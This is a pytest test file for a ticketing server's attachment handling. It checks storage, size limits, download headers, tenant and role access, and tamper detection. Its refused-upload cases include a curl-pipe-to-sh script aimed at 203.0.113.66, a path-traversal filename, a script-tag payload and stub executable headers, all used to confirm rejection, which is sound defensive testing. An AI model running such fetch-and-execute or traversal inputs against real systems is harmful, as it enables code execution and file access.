"""Ticket attachments against the real server: a file up and back byte for
byte, kept content-addressed under the data directory (mode 0600, the same
bytes once), the size limit (attachments.max_bytes, past
http.max_body_bytes), the content checks of content/attachments.yaml (magic,
text, executables), the headers a download goes with, and who sees what:
customers their tenant's public attachments only, never another tenant's,
never one named under another ticket."""
import hashlib
import os
import stat
import struct

import pytest

from conftest import make_tenant, make_user

PASSWORD = "password-for-tests"
MAX = 65536
# The route takes bodies to attachments.max_bytes, well past http.max_body_bytes.
SERVER_CONFIG = f"http:\n  max_body_bytes: 2048\nattachments:\n  max_bytes: {MAX}\n"
PCAP = "application/vnd.tcpdump.pcap"


def pcap(packets=200):
    """A little-endian pcap (link type Ethernet) of made-up frames."""
    out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
    for i in range(packets):
        frame = bytes((i + j) % 256 for j in range(60))
        out += struct.pack("<IIII", 1774793700 + i, 0, len(frame), len(frame)) + frame
    return out


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"



@pytest.fixture(scope="module")
def world(server, admin):
    t = make_tenant(admin, "Attach Co")
    other = make_tenant(admin, "Attach Other Co")
    w = {"t": t, "other": other}
    make_user(admin, "at.analyst", "analyst", None, PASSWORD)
    make_user(admin, "at.auditor", "auditor", None, PASSWORD)
    make_user(admin, "at.customer", "customer_user", t["id"], PASSWORD)
    make_user(admin, "at.outsider", "customer_admin", other["id"], PASSWORD)
    for name in ("analyst", "auditor", "customer", "outsider"):
        w[name] = server.client("at." + name, PASSWORD)
    w["ticket"] = w["customer"].post("/api/v1/tickets", {"type": "incident",
                                                         "title": "Odd traffic"}).json
    w["ticket2"] = w["analyst"].post("/api/v1/tickets", {"tenant_id": t["id"],
                                                         "type": "request",
                                                         "title": "Second"}).json
    return w


def upload(client, ticket, name, data, ctype, public=None):
    path = f"/api/v1/tickets/{ticket['id']}/attachments?name={name}"
    if public is not None:
        path += "&public=" + public
    return client.request("POST", path, data, headers={"Content-Type": ctype})


def download(client, ticket, attachment_id):
    return client.get(f"/api/v1/tickets/{ticket['id']}/attachments/{attachment_id}")


def on_disk(server, sha):
    return os.path.join(server.data, "attachments", sha[:2], sha)


def stored_files(server):
    top = os.path.join(server.data, "attachments")
    return sorted(f for _, _, files in os.walk(top) for f in files)


def test_a_pcap_up_and_back(server, admin, world):
    data = pcap()
    assert 2048 < len(data) < MAX
    r = upload(world["analyst"], world["ticket"], "capture.pcap", data, PCAP)
    assert r.status == 201, r
    a = r.json
    sha = hashlib.sha256(data).hexdigest()
    assert {k: a[k] for k in ("ticket_id", "tenant_id", "filename", "content_type", "size",
                              "sha256", "public", "source", "created_by", "staff")} == {
        "ticket_id": world["ticket"]["id"], "tenant_id": world["t"]["id"],
        "filename": "capture.pcap", "content_type": PCAP, "size": len(data), "sha256": sha,
        "public": True, "source": "upload", "created_by": "at.analyst", "staff": True}
    assert a["created_at"].endswith("Z")

    r = download(world["customer"], world["ticket"], a["id"])
    assert r.status == 200, r
    assert r.raw == data
    assert r.headers["Content-Type"] == PCAP
    assert r.headers["Content-Disposition"] == "attachment; filename*=UTF-8''capture.pcap"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Content-Security-Policy"] == "sandbox"

    # Kept by content, mode 0600 in directories of mode 0700.
    path = on_disk(server, sha)
    assert open(path, "rb").read() == data
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    for d in (os.path.dirname(path), os.path.dirname(os.path.dirname(path))):
        assert stat.S_IMODE(os.stat(d).st_mode) == 0o700
    assert not [f for f in stored_files(server) if len(f) != 64], "a temporary file was left"

    tk = admin.get(f"/api/v1/tickets/{world['ticket']['id']}").json
    assert [x["id"] for x in tk["attachments"]] == [a["id"]]
    audit = admin.get("/api/v1/audit?action=ticket.attach").json["items"]
    assert (audit[0]["object"], audit[0]["outcome"], audit[0]["detail"]) == (
        f"ticket:{world['ticket']['id']}", "ok", f"attachment {a['id']}: capture.pcap")


def test_the_same_bytes_are_stored_once(server, world):
    data = b"Mar 29 14:15:00 host sshd[2414]: Failed password for root\n" * 40
    sha = hashlib.sha256(data).hexdigest()
    first = upload(world["analyst"], world["ticket"], "auth.log", data, "text/plain")
    second = upload(world["analyst"], world["ticket2"], "auth-copy.log", data,
                    "text/plain; charset=utf-8")
    assert (first.status, second.status) == (201, 201), (first, second)
    assert first.json["id"] != second.json["id"]
    assert first.json["sha256"] == second.json["sha256"] == sha
    assert stored_files(server).count(sha) == 1
    r = download(world["analyst"], world["ticket2"], second.json["id"])
    assert (r.status, r.raw) == (200, data)
    assert r.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert r.headers["Content-Disposition"] == "attachment; filename*=UTF-8''auth-copy.log"


def test_a_name_beyond_ascii_is_percent_encoded(world):
    r = upload(world["analyst"], world["ticket"], "%E5%91%8A%E8%AD%A6%20%221%22.csv",
               b"ip,count\r\n203.0.113.66,10\r\n", "text/csv")
    assert r.status == 201 and r.json["filename"] == '告警 "1".csv', r
    r = download(world["analyst"], world["ticket"], r.json["id"])
    assert r.headers["Content-Disposition"] == \
        "attachment; filename*=UTF-8''%E5%91%8A%E8%AD%A6%20%221%22.csv"


def test_past_the_size_limit(server, admin, world):
    before = len(admin.get(f"/api/v1/tickets/{world['ticket']['id']}").json["attachments"])
    data = b"a" * (MAX + 1)
    r = upload(world["analyst"], world["ticket"], "big.txt", data, "text/plain")
    assert (r.status, r.json["detail"]) == (413, f"request body is larger than {MAX} bytes")
    assert hashlib.sha256(data).hexdigest() not in stored_files(server)
    r = upload(world["analyst"], world["ticket"], "full.txt", b"a" * MAX, "text/plain")
    assert r.status == 201, r
    after = admin.get(f"/api/v1/tickets/{world['ticket']['id']}").json["attachments"]
    assert len(after) == before + 1


@pytest.mark.parametrize("name,ctype,data,status,detail", [
    ("shot.png", "image/png", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", 400,
     "the file is declared image/png but does not start like a PNG"),
    ("report.docx",
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     b"%PDF-1.7\n", 400,
     "the file is declared application/vnd.openxmlformats-officedocument."
     "wordprocessingml.document but does not start like a Word document (a ZIP archive)"),
    ("invoice.pdf", "application/pdf", b"\x7fELF\x02\x01\x01\x00" + bytes(56), 400,
     "the file is an ELF executable; executables are not taken as attachments"),
    ("notes.txt", "text/plain", b"MZ\x90\x00\x03\x00\x00\x00", 400,
     "the file is a Windows executable (MZ); executables are not taken as attachments"),
    ("fix.txt", "text/plain", b"#!/bin/sh\ncurl http://203.0.113.66/x | sh\n", 400,
     "the file is a script (#!); executables are not taken as attachments"),
    ("setup.exe", "application/x-msdownload", b"hello", 400,
     "content type application/x-msdownload is not taken for attachments "
     "(see content/attachments.yaml)"),
    ("page.html", "text/html", b"<script>alert(1)</script>", 400,
     "content type text/html is not taken for attachments (see content/attachments.yaml)"),
    ("latin1.txt", "text/plain", b"caf\xe9\n", 400,
     "the file is declared text/plain but is not UTF-8 text (at byte 3)"),
    ("empty.txt", "text/plain", b"", 400, "the file is empty"),
    ("..%2F..%2Fvigil.db", "text/plain", b"x", 400,
     "filename must be a name without a path (no / or \\)"),
    ("", "text/plain", b"x", 400, "name the file: ?name=FILE"),
])
def test_what_is_refused(server, world, name, ctype, data, status, detail):
    before = stored_files(server)
    r = upload(world["analyst"], world["ticket"], name, data, ctype)
    assert (r.status, r.json["detail"]) == (status, detail), r
    assert stored_files(server) == before


def test_without_a_name_or_with_a_bad_public(world):
    c = world["analyst"]
    r = c.request("POST", f"/api/v1/tickets/{world['ticket']['id']}/attachments", PNG,
                  headers={"Content-Type": "image/png"})
    assert (r.status, r.json["detail"]) == (400, "name the file: ?name=FILE")
    r = upload(c, world["ticket"], "a.png", PNG, "image/png", public="maybe")
    assert (r.status, r.json["detail"]) == (400, "public must be true or false")


def test_customers_see_public_attachments_only(server, admin, world):
    a, c, tk = world["analyst"], world["customer"], world["ticket"]
    public = upload(a, tk, "for-you.png", PNG, "image/png").json
    internal = upload(a, tk, "internal-notes.txt", b"their admin reused the password\n",
                      "text/plain", public="false").json
    assert (public["public"], internal["public"]) == (True, False)
    assert download(c, tk, public["id"]).raw == PNG
    r = download(c, tk, internal["id"])
    assert (r.status, r.json["detail"]) == (404, "no such attachment")
    seen = [x["filename"] for x in c.get(f"/api/v1/tickets/{tk['id']}").json["attachments"]]
    assert "for-you.png" in seen and "internal-notes.txt" not in seen
    staff = [x["filename"] for x in a.get(f"/api/v1/tickets/{tk['id']}").json["attachments"]]
    assert "internal-notes.txt" in staff
    assert download(a, tk, internal["id"]).status == 200

    # A customer adds public attachments to its tickets, never internal ones.
    r = upload(c, tk, "screenshot.png", PNG, "image/png")
    assert r.status == 201 and (r.json["staff"], r.json["created_by"]) == (False, "at.customer")
    r = upload(c, tk, "secret.png", PNG, "image/png", public="false")
    assert (r.status, r.json["detail"]) == (403, "internal attachments are the MSSP's")


def test_auditors_read_but_do_not_write(world):
    tk = world["ticket"]
    first = world["analyst"].get(f"/api/v1/tickets/{tk['id']}").json["attachments"][0]
    assert download(world["auditor"], tk, first["id"]).status == 200
    r = upload(world["auditor"], tk, "a.png", PNG, "image/png")
    assert (r.status, r.json["detail"]) == (403, "your role may not do this (needs ticket.write)")


def test_another_tenants_customer_finds_nothing(world):
    o, tk = world["outsider"], world["ticket"]
    a = world["analyst"].get(f"/api/v1/tickets/{tk['id']}").json["attachments"][0]
    r = download(o, tk, a["id"])
    assert r.status == 404 and a["filename"] not in r.raw.decode(), r
    r = upload(o, tk, "intruder.png", PNG, "image/png")
    assert r.status == 404, r
    # Nor under a ticket of its own.
    mine = o.post("/api/v1/tickets", {"type": "request", "title": "mine"}).json
    r = download(o, mine, a["id"])
    assert (r.status, r.json["detail"]) == (404, "no such attachment")


def test_an_attachment_is_read_under_its_own_ticket_only(world):
    a, tk, tk2 = world["analyst"], world["ticket"], world["ticket2"]
    att = upload(a, tk, "only-here.png", PNG, "image/png").json
    r = download(a, tk2, att["id"])
    assert (r.status, r.json["detail"]) == (404, "no such attachment")
    for path in (f"/api/v1/tickets/{tk['id']}/attachments/x",
                 f"/api/v1/tickets/{tk['id']}/attachments/0",
                 f"/api/v1/tickets/{tk['id']}/attachments/999999"):
        r = a.get(path)
        assert (r.status, r.json["detail"]) == (404, "no such attachment"), path
    r = a.get(f"/api/v1/tickets/999999/attachments/{att['id']}")
    assert (r.status, r.json["detail"]) == (404, "no such ticket")


def test_a_damaged_file_is_not_served(server, world):
    a, tk = world["analyst"], world["ticket"]
    data = b"evidence to be tampered with\n"
    att = upload(a, tk, "evidence.txt", data, "text/plain").json
    path = on_disk(server, att["sha256"])
    for tampered, log in ((b"EVIDENCE to be tampered with\n", "are not the ones recorded"),
                          (b"evidence to be tampered with, and more\n",
                           "is larger than recorded"), (None, "is missing")):
        if tampered is None:
            os.unlink(path)
        else:
            with open(path, "wb") as f:
                f.write(tampered)
        r = download(a, tk, att["id"])
        assert (r.status, r.json["detail"]) == (500, "internal error")
        assert f"attachment {att['id']}: " in server.output() and log in server.output()
        # The same bytes attached again put the file right.
        assert upload(a, tk, "evidence.txt", data, "text/plain").status == 201
        assert download(a, tk, att["id"]).raw == data
